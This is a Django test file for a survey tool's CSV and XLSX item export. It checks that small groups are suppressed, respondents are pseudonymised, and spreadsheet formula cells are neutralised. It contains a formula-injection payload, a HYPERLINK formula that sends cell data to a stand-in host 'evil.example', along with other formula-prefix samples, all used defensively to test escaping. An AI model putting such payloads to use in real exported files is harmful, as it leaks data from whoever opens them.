"""
The item export (``analysis.exports``) through its two entry points: the
dashboard's download views and the ``export_items`` command.

Answers are stored through the app's services and analysed with the real
engine (``analysis_run_now``); the files are parsed back with the csv module
and openpyxl.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import tempfile
from pathlib import Path

from django.core.management import CommandError, call_command
from django.test import TestCase, TransactionTestCase
from django.urls import reverse
from openpyxl import load_workbook

from analysis import exports
from analysis import services as analysis_services
from analysis.models import AnalysisRun
from surveys import services
from surveys.models import AnswerItem, Respondent, Wave
from surveys.services import Answers, Contact, ItemInput, RatingInput, SheetDetails
from tests.surveys.factories import consultant_create, engagement_create, first_wave

HEADER = ["group", "respondent", "department", "question", "tag", "text", "theme_id", "theme"]

# Cells a spreadsheet would run as formulas, and what the export must make of them.
INJECTIONS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+1": "'+1",
    "-2": "'-2",
    "@SUM(A1)": "'@SUM(A1)",
}
# Text that must come back exactly as stored: unicode, commas, quotes, a newline.
ORDINARY = 'Très bien, "vraiment" rapide — 日本語のサポート\nand a second line, too'

SLOW = ["Replies take far too long", "I waited two weeks for an answer", "They are slow to get back to me"]
FRIENDLY = ["Friendly people on the phone", "The staff on the phone are kind", "Polite and helpful phone agents"]
LEADERS_SECRET = ["Our margins hide a secret plan", "The board secret plan is cheaper", "Secret pricing plan for rivals"]

CUSTOMER_NAMES = [f"Carla Diaz {n}" for n in range(5)]
CUSTOMER_EMAILS = [f"carla.diaz{n}@example.com" for n in range(5)]
STAFF_GROUP_NAMES = ["Team Blue", "Team Orange"]
PSEUDONYM = re.compile(r"^[LSC][1-9][0-9]*$")


def answers(wave: Wave, items: list[tuple[str, str] | tuple[str, str, str]]) -> Answers:
    """``items`` as (question_key, text[, tag]) and a 3 for every rating of the wave."""
    return Answers(
        items=[ItemInput(*item) for item in items],
        ratings=[RatingInput(item_key=key, value=3) for key in wave.rating_items.values_list("key", flat=True)],
    )


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def parse_xlsx(data: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


class ItemExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.user, workspace = consultant_create()
        cls.engagement = engagement_create(workspace=workspace)  # threshold 5 individuals, 2 staff sheets
        cls.wave = wave = first_wave(cls.engagement)
        # Three leaders: below the threshold of 5, so the whole group stays out of the export.
        session = services.session_open(wave=wave, opened_by=cls.user, name="Board workshop")
        for text in LEADERS_SECRET:
            services.leader_submit(session=session, answers=answers(wave, [("improvements", text)]))
        # Two staff sheets of one department (2 sheets: shown).
        for name in STAFF_GROUP_NAMES:
            services.staff_sheet_save(
                wave=wave,
                details=SheetDetails(group_name=name, department="Support", members=6),
                answers=answers(wave, [("strengths", FRIENDLY[0]), ("improvements", SLOW[1])]),
                submit=True,
            )
        # Five invited customers of segment Retail (shown), with the formula and unicode cells.
        services.invitations_create(
            wave=wave,
            contacts=[Contact(email=CUSTOMER_EMAILS[n], name=CUSTOMER_NAMES[n], segment="Retail") for n in range(5)],
        )
        odd = [*INJECTIONS, ORDINARY]
        for n, invitation in enumerate(wave.invitations.order_by("email")):
            services.invitation_submit(
                invitation=invitation,
                answers=answers(
                    wave,
                    [
                        ("strengths", FRIENDLY[n % 3]),
                        ("improvements", SLOW[n % 3]),
                        ("competition", odd[n], "good"),
                    ],
                ),
            )
        # Five open-link customers without a segment (so Retail stays shown: the remainder is
        # 6, not under 5), and one of segment Wholesale: alone, so its segment is blanked.
        for n in range(5):
            services.open_link_submit(
                wave=wave, answers=answers(wave, [("strengths", FRIENDLY[n % 3]), ("improvements", SLOW[n % 3])])
            )
        services.open_link_submit(wave=wave, segment="Wholesale", answers=answers(wave, [("improvements", SLOW[0])]))
        cls.served = analysis_services.analysis_run_now(wave=wave)

    def setUp(self):
        self.client.force_login(self.user)

    def url(self, name: str, wave: Wave | None = None) -> str:
        wave = wave or self.wave
        return reverse(f"analysis:{name}", args=[wave.engagement.slug, wave.number])

    def view_csv(self) -> str:
        response = self.client.get(self.url("export_csv"))
        self.assertEqual(response.status_code, 200)
        return b"".join(response.streaming_content).decode("utf-8")

    def command_csv(self, *args: str) -> tuple[str, str]:
        out, err = io.StringIO(), io.StringIO()
        call_command("export_items", self.engagement.slug, *args, stdout=out, stderr=err)
        return out.getvalue(), err.getvalue()

    def shown_items(self) -> list[AnswerItem]:
        """The submitted items of shown groups, in the export's order."""
        group_rank = {"leadership": 0, "staff": 1, "customer": 2}
        question_rank = {key: n for n, key in enumerate(self.wave.questions.values_list("key", flat=True))}
        items = AnswerItem.objects.filter(
            respondent__wave=self.wave, respondent__status=Respondent.Status.SUBMITTED
        ).exclude(respondent__group="leadership")
        return sorted(
            items.select_related("respondent"),
            key=lambda i: (group_rank[i.respondent.group], i.respondent_id, question_rank[i.question_key], i.order),
        )

    def test_run_is_finished_and_leadership_suppressed(self):
        # The premise of the other tests.
        self.assertEqual(self.served.status, AnalysisRun.Status.DONE)
        suppressed = {(s["kind"], s["name"]) for s in self.served.result["suppressed"]}
        self.assertIn(("group", "leadership"), suppressed)
        self.assertIn(("segment", "Wholesale"), suppressed)
        self.assertNotIn(("segment", "Retail"), suppressed)

    def test_csv_rows_equal_the_stored_items_of_shown_groups(self):
        rows = parse_csv(self.view_csv())
        self.assertEqual(rows[0], HEADER)
        items = self.shown_items()
        self.assertEqual(len(rows) - 1, len(items))
        labels = {
            (q, t["theme_id"]): t["label"] for q, block in self.served.result["questions"].items() for t in block["themes"]
        }
        pseudonyms: dict[int, str] = {}
        for row, item in zip(rows[1:], items):
            record = dict(zip(HEADER, row))
            self.assertEqual(record["group"], item.respondent.group)
            self.assertEqual(record["question"], item.question_key)
            self.assertEqual(record["tag"], item.tag)
            self.assertEqual(record["text"], INJECTIONS.get(item.text, item.text))
            # One pseudonym per respondent, and one respondent per pseudonym.
            self.assertEqual(pseudonyms.setdefault(item.respondent_id, record["respondent"]), record["respondent"])
            theme_id = self.served.assignments[str(item.pk)]
            self.assertEqual(record["theme_id"], "" if theme_id is None else str(theme_id))
            # Theme labels are drawn from the items' own words, so they are neutralised too ("+1").
            label = "" if theme_id is None else exports.neutralise(labels[(item.question_key, theme_id)])
            self.assertEqual(record["theme"], label)
        self.assertEqual(len(set(pseudonyms.values())), len(pseudonyms))
        self.assertTrue(all(PSEUDONYM.match(p) for p in pseudonyms.values()), pseudonyms)
        self.assertTrue(any(row[6] for row in rows[1:]), "the engine assigned no item at all")

    def test_respondents_are_numbered_per_group_in_order(self):
        rows = parse_csv(self.view_csv())[1:]
        seen: list[str] = []
        for row in rows:
            if row[1] not in seen:
                seen.append(row[1])
        self.assertEqual(seen, ["S1", "S2", *(f"C{n}" for n in range(1, 12))])

    def test_formula_cells_are_neutralised_and_ordinary_text_kept(self):
        texts = [row[5] for row in parse_csv(self.view_csv())[1:]]
        for neutralised in INJECTIONS.values():
            self.assertIn(neutralised, texts)
        self.assertIn(ORDINARY, texts)
        self.assertFalse([t for t in texts if t[:1] in ("=", "+", "-", "@")])

    def test_neutralise_covers_every_formula_prefix(self):
        cases = {
            "=1+1": "'=1+1",
            "+1": "'+1",
            "-2": "'-2",
            "@SUM(A1)": "'@SUM(A1)",
            "\tx": "'\tx",
            "\rx": "'\rx",
            "a=1": "a=1",
            "": "",
            None: "",
            12: "12",
            -3: "'-3",
        }
        for value, expected in cases.items():
            with self.subTest(value=value):
                self.assertEqual(exports.neutralise(value), expected)

    def test_every_column_is_neutralised(self):
        row = dict.fromkeys(HEADER, "=evil()")
        out = io.StringIO()
        exports.write_csv([row], out)
        self.assertEqual(parse_csv(out.getvalue())[1], ["'=evil()"] * len(HEADER))
        data = io.BytesIO()
        exports.write_xlsx([row], data)
        self.assertEqual(parse_xlsx(data.getvalue())[1], ["'=evil()"] * len(HEADER))

    def test_suppressed_group_is_absent_and_small_segment_blanked(self):
        content = self.view_csv()
        rows = parse_csv(content)[1:]
        self.assertEqual({row[0] for row in rows}, {"staff", "customer"})
        for text in LEADERS_SECRET:
            self.assertNotIn(text, content)
        self.assertNotIn("Wholesale", content)
        departments = {row[2] for row in rows}
        self.assertEqual(departments, {"Support", "Retail", ""})

    def test_no_identity_appears_in_either_file(self):
        csv_text = self.view_csv()
        xlsx_rows = parse_xlsx(self.client.get(self.url("export_xlsx")).content)
        xlsx_text = "\n".join("\t".join(row) for row in xlsx_rows)
        ids = {str(pk) for pk in Respondent.objects.filter(wave=self.wave).values_list("pk", flat=True)}
        for content, rows in ((csv_text, parse_csv(csv_text)), (xlsx_text, xlsx_rows)):
            for secret in [*CUSTOMER_EMAILS, *CUSTOMER_NAMES, *STAFF_GROUP_NAMES]:
                self.assertNotIn(secret, content)
            self.assertFalse({row[1] for row in rows[1:]} & ids)

    def test_xlsx_parses_back_to_the_same_rows_as_csv_with_string_cells(self):
        response = self.client.get(self.url("export_xlsx"))
        self.assertEqual(response.status_code, 200)
        self.assertEqual(
            response["Content-Disposition"], f'attachment; filename="{self.engagement.slug}-wave1-items.xlsx"'
        )
        self.assertEqual(parse_xlsx(response.content), parse_csv(self.view_csv()))
        sheet = load_workbook(io.BytesIO(response.content)).active
        self.assertTrue(sheet["A1"].font.bold)
        self.assertEqual({cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}, {"s"})

    def test_csv_download_is_an_attachment(self):
        response = self.client.get(self.url("export_csv"))
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertEqual(
            response["Content-Disposition"], f'attachment; filename="{self.engagement.slug}-wave1-items.csv"'
        )

    def test_command_and_view_give_the_same_rows(self):
        out, err = self.command_csv()
        self.assertEqual(parse_csv(out), parse_csv(self.view_csv()))
        self.assertEqual(err.strip(), f"Wrote {len(self.shown_items())} items of {self.engagement.name} wave 1.")
        with tempfile.TemporaryDirectory() as folder:
            csv_path, xlsx_path = Path(folder, "items.csv"), Path(folder, "items.xlsx")
            self.command_csv("--wave", "1", "--output", str(csv_path))
            self.command_csv("--format", "xlsx", "--output", str(xlsx_path))
            self.assertEqual(parse_csv(csv_path.read_text(encoding="utf-8")), parse_csv(out))
            self.assertEqual(parse_xlsx(xlsx_path.read_bytes()), parse_csv(out))

    def test_unassigned_item_has_empty_theme_fields(self):
        item = self.shown_items()[0]
        AnalysisRun.objects.filter(pk=self.served.pk).update(
            assignments={**self.served.assignments, str(item.pk): None}
        )
        row = parse_csv(self.command_csv()[0])[1]
        self.assertEqual((row[5], row[6], row[7]), (item.text, "", ""))

    def test_item_submitted_after_the_run_has_no_theme_and_no_segment(self):
        services.open_link_submit(wave=self.wave, segment="Retail", answers=answers(self.wave, [("strengths", "Late")]))
        rows = parse_csv(self.view_csv())[1:]
        self.assertEqual(len(rows), len(self.shown_items()))
        self.assertEqual(rows[-1], ["customer", "C12", "", "strengths", "", "Late", "", ""])

    def test_queries_do_not_grow_with_items(self):
        run = AnalysisRun.objects.get(pk=self.served.pk)
        wave = Wave.objects.get(pk=self.wave.pk)
        # Themes, the wave's question order, the items (streamed in chunks).
        with self.assertNumQueries(3):
            rows = list(exports.item_rows(wave, run))
        self.assertEqual(len(rows), len(self.shown_items()))

    def test_anonymous_is_sent_to_login(self):
        self.client.logout()
        for name in ("export_csv", "export_xlsx"):
            response = self.client.get(self.url(name))
            self.assertEqual(response.status_code, 302)
            self.assertIn(reverse("login"), response["Location"])

    def test_other_workspace_gets_404(self):
        other, _ = consultant_create(username="rival", workspace_name="Rival Consulting")
        self.client.force_login(other)
        for name in ("export_csv", "export_xlsx"):
            self.assertEqual(self.client.get(self.url(name)).status_code, 404)

    def test_no_finished_run_gives_404_and_command_error(self):
        workspace = self.engagement.workspace
        fresh = engagement_create(workspace=workspace, name="Fresh Foods")
        wave = first_wave(fresh)
        for name in ("export_csv", "export_xlsx"):
            response = self.client.get(self.url(name, wave))
            self.assertEqual(response.status_code, 404)
            self.assertIn("No analysis has finished", response.content.decode())
        with self.assertRaisesMessage(CommandError, "No analysis has finished"):
            call_command("export_items", fresh.slug, stdout=io.StringIO(), stderr=io.StringIO())

    def test_command_refuses_bad_input(self):
        cases = [
            (("no-such-company",), "There is no engagement"),
            ((self.engagement.slug, "--wave", "9"), "has no wave 9"),
            ((self.engagement.slug, "--format", "xlsx"), "--output"),
        ]
        for args, message in cases:
            with self.subTest(args=args), self.assertRaisesMessage(CommandError, message):
                call_command("export_items", *args, stdout=io.StringIO(), stderr=io.StringIO())

    def test_theme_columns_carry_the_runs_assignment_and_per_question_label(self):
        run = self.served
        labels = {
            (question, theme["theme_id"]): theme["label"]
            for question, block in run.result["questions"].items()
            for theme in block["themes"]
        }
        rows = parse_csv(self.command_csv()[0])[1:]
        items = self.shown_items()
        self.assertEqual(len(rows), len(items))
        for row, item in zip(rows, items):
            theme_id = run.assignments[str(item.pk)]
            self.assertEqual(row[6], "" if theme_id is None else str(theme_id))
            if theme_id is not None:
                self.assertEqual(row[7], exports.neutralise(labels[(item.question_key, theme_id)]))
        self.assertTrue(any(row[6] for row in rows))

    def test_theme_list_links_to_the_exports(self):
        content = self.client.get(self.url("theme_list")).content.decode()
        self.assertIn(self.url("export_csv"), content)
        self.assertIn(self.url("export_xlsx"), content)


class ItemExportExitTests(TransactionTestCase):
    """
    The command as a shell runs it: ``run_from_argv`` prints the error and exits
    non-zero. It closes the database connections when it ends, which a
    TestCase's wrapping transaction would not survive on PostgreSQL, hence a
    TransactionTestCase.
    """

    def test_command_exits_non_zero_with_a_clear_message_on_an_unknown_slug_or_wave(self):
        from analysis.management.commands.export_items import Command

        _, workspace = consultant_create(username="ana", workspace_name="Alpha Consulting")
        engagement = engagement_create(workspace=workspace, name="Northwind Traders")
        cases = [
            (["no-such-company"], "There is no engagement “no-such-company”"),
            ([engagement.slug, "--wave", "9"], "has no wave 9"),
        ]
        for args, message in cases:
            stdout, stderr = io.StringIO(), io.StringIO()
            with self.subTest(args=args), contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(stdout):
                with self.assertRaises(SystemExit) as exit_:
                    Command().run_from_argv(["manage.py", "export_items", *args])
                self.assertEqual(exit_.exception.code, 1)
                self.assertIn(message, stderr.getvalue())
                self.assertEqual(stdout.getvalue(), "")  # no half-written CSV
